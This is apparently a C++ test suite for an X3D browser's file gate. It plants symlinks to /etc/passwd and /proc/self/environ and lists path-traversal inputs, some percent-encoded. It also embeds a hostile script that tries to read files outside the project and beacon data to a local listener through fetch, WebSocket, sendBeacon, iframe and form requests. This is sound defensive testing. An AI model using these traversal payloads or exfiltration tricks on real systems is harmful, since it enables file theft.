#include "platform/WorldFileGate.h"
#include "platform/X3DBrowserView.h"
#include "platform/XiteBrowser.h"
#include "platform/XiteLoadWaiter.h"
#include "platform/XiteUrlSchemeHandler.h"

#include "WebEngineForTests.h"

#include <QDir>
#include <QFile>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QWebEnginePage>

#include <gtest/gtest.h>

#include <sys/stat.h>

using namespace vendrel;

namespace {

/// A project tree in a temporary folder: T/proj/x/y/z/world/w.x3d, so the root is T/proj (four levels
/// up), with material inside, outside and behind links.
struct Project
{
    QTemporaryDir dir;
    QString t = dir.path();
    QString world = t + QStringLiteral("/proj/x/y/z/world");

    Project()
    {
        for (const char* folder : {"/proj/x/y/z/world/.git", "/proj/.cache/w", "/home/u/Downloads/evil"})
            QDir().mkpath(t + QLatin1String(folder));
        for (const char* file :
             {"/proj/x/y/z/world/w.x3d", "/proj/x/y/z/world/tex.png", "/proj/a.png", "/outside.png",
              "/proj/x/y/z/world/.hidden.png", "/proj/x/y/z/world/.git/x.png", "/proj/x/y/z/world/notes.txt",
              "/proj/.cache/w/world.data", "/home/u/Downloads/evil/w.x3d", "/home/u/w.x3d"})
            write(t + QLatin1String(file), "#X3D V3.3 utf8\n");
        link("/etc/passwd", "passwd.png");
        link("/proc/self/environ", "env.png");
        link("/", "rootlink");
        link(t + QStringLiteral("/outside.png"), "up.png");
        link(t + QStringLiteral("/proj/a.png"), "inside.png");
        ::mkfifo(QFile::encodeName(world + QStringLiteral("/fifo.png")).constData(), 0600);
    }
    static void write(const QString& path, const QByteArray& bytes)
    {
        QFile file(path);
        if (file.open(QIODevice::WriteOnly))
            file.write(bytes);
    }
    void link(const QString& target, const char* name)
    {
        QFile::link(target, world + u'/' + QLatin1String(name));
    }
};

TEST(WorldFileGate, ServesTheWorldAndMaterialInsideItsRootOnly)
{
    Project p;
    const QByteArray oldHome = qgetenv("HOME");
    qputenv("HOME", (p.t + QStringLiteral("/home/u")).toUtf8());

    EXPECT_EQ(WorldFileGate::rootFor(p.world + QStringLiteral("/w.x3d")), p.t + QStringLiteral("/proj"));
    EXPECT_EQ(WorldFileGate::rootFor(p.t + QStringLiteral("/home/u/Downloads/evil/w.x3d")),
              p.t + QStringLiteral("/home/u/Downloads"))
        << "never the home folder";
    EXPECT_EQ(WorldFileGate::rootFor(p.t + QStringLiteral("/home/u/w.x3d")), "")
        << "a world in the home folder";
    EXPECT_EQ(WorldFileGate::rootFor(QStringLiteral("/etc/passwd")), "") << "a first-level folder";

    WorldFileGate gate;
    EXPECT_EQ(gate.resolve(p.world + QStringLiteral("/tex.png")), "") << "no world loaded";
    gate.setWorld(p.world + QStringLiteral("/w.x3d"));
    const struct
    {
        QString path;
        bool served;
    } cases[] = {
        {QStringLiteral("/w.x3d"), true},
        {QStringLiteral("/tex.png"), true},
        {QStringLiteral("/../../../../a.png"), true},
        {QStringLiteral("/inside.png"), true},
        {QStringLiteral("/../../../../../outside.png"), false},
        {QStringLiteral("/up.png"), false},
        {QStringLiteral("/passwd.png"), false},
        {QStringLiteral("/env.png"), false},
        {QStringLiteral("/rootlink/etc/hostname"), false},
        {QStringLiteral("/.hidden.png"), false},
        {QStringLiteral("/.git/x.png"), false},
        {QStringLiteral("/notes.txt"), false},
        {QStringLiteral("/fifo.png"), false},
        {QStringLiteral("/missing.png"), false},
        {QStringLiteral("/../../../../../../../../../../etc/passwd"), false},
    };
    for (const auto& c : cases)
        EXPECT_EQ(!gate.resolve(p.world + c.path).isEmpty(), c.served) << c.path.toStdString();
    EXPECT_EQ(gate.resolve(QStringLiteral("/proc/self/environ")), "");

    // The world itself loads wherever it lies and whatever its name.
    gate.setWorld(p.t + QStringLiteral("/proj/.cache/w/world.data"));
    EXPECT_NE(gate.resolve(p.t + QStringLiteral("/proj/.cache/w/world.data")), "");
    qputenv("HOME", oldHome);
}

/// A world whose Script tries to read files beyond its root, by every road, and to send to a server.
const char* const hostileWorld = R"(#X3D V3.3 utf8
DEF Reader Script {
  url "ecmascript:
function initialize ()
{
  var w = (function () { return this; }) () || globalThis;
  var dir = 'DIR', out = 'http://127.0.0.1:PORT/', d = w .document;
  ['/tex.png', '/../../../../a.png', '/../../../../../../../../../../etc/passwd',
   '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
   '/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd', '/passwd.png', '/env.png',
   '/rootlink/etc/hostname', '/.hidden.png', '/up.png', '/fifo.png'] .forEach (function (a)
  {
    var r = new w .XMLHttpRequest ();
    r .open ('GET', dir + a);
    r .onload = function () { if (r .status === 200) print ('READ:' + a); };
    r .send ();
  });
  var tries = [
    function () { new w .Image () .src = out + 'img'; },
    function () { w .fetch (out + 'fetch') .catch (function () { }); },
    function () { w .fetch (out + 'post', { method: 'POST', body: 'x', mode: 'no-cors' }) .catch (function () { }); },
    function () { w .navigator .sendBeacon (out + 'beacon', 'x'); },
    function () { new w .WebSocket ('ws://127.0.0.1:PORT/ws'); },
    function () { var x = new w .XMLHttpRequest (); x .open ('GET', out + 'xhr'); x .send (); },
    function () { var s = d .createElement ('script'); s .src = out + 'script'; d .head .appendChild (s); },
    function () { var l = d .createElement ('link'); l .rel = 'stylesheet'; l .href = out + 'css'; d .head .appendChild (l); },
    function () { var f = d .createElement ('iframe'); f .src = out + 'frame'; d .body .appendChild (f); },
    function () { var f = d .createElement ('form'); f .method = 'POST'; f .action = out + 'form'; d .body .appendChild (f); f .submit (); },
  ];
  tries .forEach (function (t) { try { t (); } catch (e) { } });
}
"
}
)";

/// One browser for the suite, with a local server that must never hear from a world.
class WorldGateBrowserTest : public testing::Test
{
protected:
    void SetUp() override
    {
        if (qEnvironmentVariableIsEmpty("DISPLAY") || !(browser = XiteBrowser::create()))
            GTEST_SKIP() << "needs a display with WebGL and the X_ITE files";
        view = std::make_unique<X3DBrowserView>(browser);
        view->resize(320, 240);
        view->show();
        waiter = std::make_unique<XiteLoadWaiter>(*browser);
        QObject::connect(browser.get(), &XiteBrowser::consoleMessage,
                         [this](const QString& message) { console.append(message); });
        ASSERT_TRUE(server.listen(QHostAddress::LocalHost));
        QObject::connect(&server, &QTcpServer::newConnection, [this] { ++connections; });
    }

    Project p;
    std::shared_ptr<XiteBrowser> browser;
    std::unique_ptr<X3DBrowserView> view;
    std::unique_ptr<XiteLoadWaiter> waiter;
    QTcpServer server;
    int connections = 0;
    QStringList console;
};

TEST_F(WorldGateBrowserTest, AWorldReadsOnlyItsOwnMaterialAndReachesNoServer)
{
    const QString path = p.world + QStringLiteral("/w.x3d");
    Project::write(path, QByteArray(hostileWorld)
                             .replace("DIR", XiteUrlSchemeHandler::fileUrl(p.world).toEncoded())
                             .replace("PORT", QByteArray::number(server.serverPort())));
    ASSERT_EQ(waiter->load(path, 30000), XiteLoadWaiter::Result::Loaded);
    waiter->waitForEvent(3000); // let the requests run their course

    QStringList read;
    for (const QString& line : console.filter(QStringLiteral("READ:")))
        read.append(line.mid(line.indexOf(QStringLiteral("READ:"))));
    read.sort();
    EXPECT_EQ(read.join(u' ').toStdString(), "READ:/../../../../a.png READ:/tex.png")
        << "its own material only; " << console.join(u'\n').toStdString();
    EXPECT_EQ(connections, 0) << "the server heard from the world";
    EXPECT_EQ(browser->page()->url(), XiteUrlSchemeHandler::pageUrl()) << "the page stays where it is";
}

// A world shown keeps its own leaves while another loads beside it, and after that load fails: a world
// from the web may reach any host, the local one shown never gets that from it.
TEST_F(WorldGateBrowserTest, AWebWorldLoadingBesideALocalOneLendsItNoWebAccess)
{
    const QString path = p.world + QStringLiteral("/calls.x3dv");
    Project::write(path, QByteArray("#X3D V3.3 utf8\nDEF Caller Script { url \"ecmascript:\n"
                                    "function initialize () { var w = (function () { return this; }) () || "
                                    "globalThis; w .setInterval (function () { new w .Image () .src = "
                                    "'http://127.0.0.1:PORT/late?' + Date .now (); }, 100); }\" }\n")
                             .replace("PORT", QByteArray::number(server.serverPort())));
    ASSERT_EQ(waiter->load(path, 30000), XiteLoadWaiter::Result::Loaded);
    EXPECT_EQ(waiter->load(QStringLiteral("http://127.0.0.1:9/none.x3dv"), 30000),
              XiteLoadWaiter::Result::Failed);
    waiter->waitForEvent(1500); // the shown world keeps calling
    EXPECT_EQ(connections, 0) << "the server heard from the local world";
}

TEST_F(WorldGateBrowserTest, AWorldInAHiddenFolderWithAnUnusualNameLoads)
{
    const QString path = p.t + QStringLiteral("/proj/.cache/w/world.data");
    Project::write(path, "#X3D V3.3 utf8\nDEF Hidden Transform { }\n");
    ASSERT_EQ(waiter->load(path, 30000), XiteLoadWaiter::Result::Loaded)
        << browser->lastError().toStdString();
    EXPECT_EQ(browser->getExecutionContext()->rootNodes()->item(0)->defName(), "Hidden");
}

TEST_F(WorldGateBrowserTest, AWorldFromAServerWithoutCorsHeadersLoads)
{
    // A server that answers every request with one world and no CORS headers.
    QTcpServer web;
    ASSERT_TRUE(web.listen(QHostAddress::LocalHost));
    QObject::connect(&web, &QTcpServer::newConnection, [&web] {
        QTcpSocket* socket = web.nextPendingConnection();
        QObject::connect(socket, &QTcpSocket::readyRead, socket, [socket] {
            const QByteArray body = "#X3D V3.3 utf8\nDEF FromWeb Group { }\n";
            socket->write("HTTP/1.1 200 OK\r\nContent-Type: model/x3d+vrml\r\nConnection: close\r\n"
                          "Content-Length: " +
                          QByteArray::number(body.size()) + "\r\n\r\n" + body);
            socket->disconnectFromHost();
        });
    });
    const QString address = QStringLiteral("http://127.0.0.1:%1/w.x3dv").arg(web.serverPort());
    ASSERT_EQ(waiter->load(address, 30000), XiteLoadWaiter::Result::Loaded)
        << browser->lastError().toStdString();
    EXPECT_EQ(browser->getExecutionContext()->rootNodes()->item(0)->defName(), "FromWeb");
}

} // namespace
